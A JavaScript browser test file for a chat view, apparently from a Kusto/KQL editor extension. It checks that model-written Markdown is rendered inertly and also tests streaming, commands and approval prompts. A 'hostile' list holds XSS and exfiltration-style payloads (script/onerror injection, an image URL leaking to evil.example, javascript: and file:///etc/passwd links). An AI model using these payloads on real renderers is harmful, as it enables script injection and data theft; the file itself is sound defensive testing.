// The Chat view by itself, in a real Chromium: what a model writes is data; it fetches nothing, runs nothing and looks like text.
import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, test } from 'node:test';
import { launch } from './chromium.mjs';
import { eventually } from './eventually.mjs';
import { openChat } from './results-page.mjs';

let browser;
let view;
let page;

before(async () => {
  browser = await launch();
});
after(() => browser?.close());
beforeEach(async () => {
  view = await openChat(browser);
  page = view.page;
  await page.getByRole('combobox').waitFor();
});
afterEach(async () => {
  assert.deepEqual(view.faults, []);
  assert.deepEqual(view.messages.filter((message) => message.startsWith('thrown')), []);
  await page.context().close();
});

const say = (message) => page.evaluate((message) => window.host.say(message), message);
const posted = (type, ...wanted) => eventually(() => page.evaluate((type) => window.host.posted.filter((message) => message.type === type), type), wanted);
const answer = (text) => say({ type: 'item', item: { id: 'a', type: 'agentMessage', text } });
const log = () => page.getByRole('log');

const hostile = [
  '<img src=x onerror="document.title=1"><script>document.title=1</script>',
  '![leak](https://evil.example/?q=TEXAS) ![data](data:image/png;base64,AAAA)',
  '[run](command:workbench.action.quit) [js](javascript:document.title=1) [data](data:text/html,x) [file](file:///etc/passwd) [plain](http://evil.example)',
  '<a href="https://evil.example" style="position:fixed">x</a> <form action="https://evil.example"><input></form>',
  '| a | b |\n|:-:|--:|\n| <b>x</b> | 1 |',
  '<https://evil.example/auto> &lt;b&gt; [ref]: https://evil.example/ref',
  '```html\n<script>document.title=1</script>\n```',
  '<svg onload="document.title=1"><style>*{display:none}</style></svg><iframe src="https://evil.example"></iframe>',
];

test('hostile Markdown makes no request, no element of its own and no link but https', async () => {
  await answer(hostile.join('\n\n'));
  await log().getByText('document.title=1').first().waitFor();
  assert.equal(await page.title(), 'chat');
  assert.equal(await log().locator('img, script:not([nonce]), form, input, iframe, style, svg, [style], [onerror], [onload]').count(), 0);
  const links = await log().locator('a').evaluateAll((list) => list.map((link) => link.getAttribute('href')));
  assert.deepEqual(links.filter((href) => !href.startsWith('https://')), []);
  await eventually(() => log().locator('td.right').innerText(), '1');
});

test('a link goes through the extension, which asks', async () => {
  await answer('[docs](https://learn.example/kql)');
  await log().getByRole('link', { name: 'docs' }).click();
  await posted('link', { type: 'link', href: 'https://learn.example/kql' });
  assert.match(page.url(), /^http:\/\/127\.0\.0\.1/);
});

test('text that streams is drawn piece by piece; what stood already stays in place', async () => {
  await say({ type: 'item', item: { id: 'a', type: 'agentMessage', text: '', open: true } });
  await say({ type: 'delta', id: 'a', text: 'First block.\n\nSecond ' });
  await log().getByText('First block.').evaluate((node) => (node.dataset.kept = 'yes'));
  for (const piece of ['**bold', '** block.\n\n```kusto\nStormEvents', '\n| take 1\n```\n']) {
    await say({ type: 'delta', id: 'a', text: piece });
  }
  await log().getByText('| take 1').waitFor();
  await log().getByText('First block.').and(page.locator('[data-kept="yes"]')).waitFor();
  await eventually(() => log().locator('strong').innerText(), 'bold');
  await log().getByRole('button', { name: 'Insert into the document' }).click();
  await posted('insert', { type: 'insert', text: 'StormEvents\n| take 1' });
  await page.getByRole('status').filter({ hasText: 'Second' }).waitFor({ state: 'attached' });
});

test('void items go; an answer of 2 MB and a thousand items are no matter', async () => {
  await answer('x');
  await say({ type: 'void', ids: ['a'] });
  await log().getByText('Ask about your data').waitFor();
  await answer(`${'word '.repeat(400_000)}end`);
  await log().getByText(/end$/).waitFor();
  const items = Array.from({ length: 1000 }, (_, i) => ({ id: `i${i}`, type: i % 2 === 0 ? 'userMessage' : 'agentMessage', text: `message ${i}` }));
  await page.evaluate((items) => window.host.say({ type: 'all', items, bar: window.host.bar }), items);
  await log().getByText('message 999', { exact: true }).waitFor();
});

test('by keyboard: a command is completed, what was asked comes back, a message of no known shape is nothing', async () => {
  const box = page.getByRole('combobox');
  await box.fill('/t');
  await page.getByRole('option', { name: /tables/ }).waitFor();
  await page.locator('[role="combobox"][aria-expanded="true"]').waitFor();
  await box.press('Enter');
  await page.locator('[role="combobox"][aria-expanded="false"]').waitFor();
  await box.press('Enter');
  await posted('ask', { type: 'ask', text: '/tables', document: true });
  await box.press('ArrowUp');
  await eventually(() => box.inputValue(), '/tables');
  await say({ type: 'item', item: { id: 3 } });
  await say({ type: 'constructor' });
});

test('what commands give is drawn as texts, tables and lists; markup in it is text, a first cell runs its line', async () => {
  const blocks = [
    { icon: 'error', text: 'The query has faults.' },
    { list: ['line 1: <b>no</b>'] },
    { label: 'Tables', columns: ['Table', 'Columns'], rows: [['<img src=x>', '3'], ['T 2', '12']], right: [1], command: '/schema' },
    { svg: '<svg role="img" aria-label="storms"><script>document.title=1</script><image href="https://evil.example"/><rect class="bar"/></svg>' },
    { code: 'T | count' },
    { text: '2 tables' },
  ];
  await say({ type: 'item', item: { id: 'c', type: 'command', run: { blocks } } });
  const table = page.getByRole('region', { name: 'Tables' });
  await table.getByRole('cell', { name: '12' }).waitFor();
  await eventually(() => table.locator('td.right').count(), 2);
  await log().getByRole('img', { name: 'storms' }).locator('rect.bar').waitFor({ state: 'attached' });
  assert.equal(await log().locator('img, b, image, script, [style], [onclick]').count(), 0);
  await table.getByRole('button', { name: '/schema T 2' }).click();
  await posted('ask', { type: 'ask', text: '/schema T 2', document: false });
});

test('an error offers what its maker says helps; a question says what is asked', async () => {
  await say({ type: 'item', item: { id: 'e', type: 'error', error: { kind: 'signInRequired', message: 'nobody is signed in', hint: 'sign in', actions: ['Sign in', 'az login'] } } });
  await page.getByRole('button', { name: 'az login' }).click();
  await posted('act', { type: 'act', text: 'az login' });
  const asked = { approvalId: 'a', threadId: 't', turnId: 'u', itemId: 'i', tool: 'x', query: 'T | take 1', connection: 'c', database: 'd', reason: 'policy', findings: [], willSend: { rows: 0, bytes: 0 }, sends: 'No rows.' };
  const ask = (more) => say({ type: 'item', item: { id: 'i', type: 'toolCall', tool: 'x', query: 'T | take 1', status: 'awaitingApproval', approval: { ...asked, ...more } } });
  await ask({ question: 'Insert this query into a.kql?', edited: 'Write edited query', always: true });
  await page.getByRole('group', { name: 'Insert this query into a.kql?' }).getByRole('button', { name: 'Approve all in this chat' }).waitFor();
  await page.getByRole('button', { name: 'Approve', exact: true }).dblclick();
  await posted('decide', { type: 'decide', approval: 'a', decision: 'accept' }); // once
  await ask({ question: 'Let the model read on?' });
  const more = page.getByRole('group', { name: 'Let the model read on?' });
  await more.getByText('No rows.').waitFor();
  await more.getByRole('button', { name: 'Edit the query' }).waitFor({ state: 'hidden' });
  await ask({ question: 'Run it?', edited: 'Run edited query' });
  const dear = page.getByRole('group', { name: 'Run it?' });
  await dear.getByRole('button', { name: 'Edit the query' }).click();
  await dear.getByRole('button', { name: 'Run edited query' }).waitFor();
  await dear.getByRole('button', { name: 'Approve all in this chat' }).waitFor({ state: 'detached' });
});
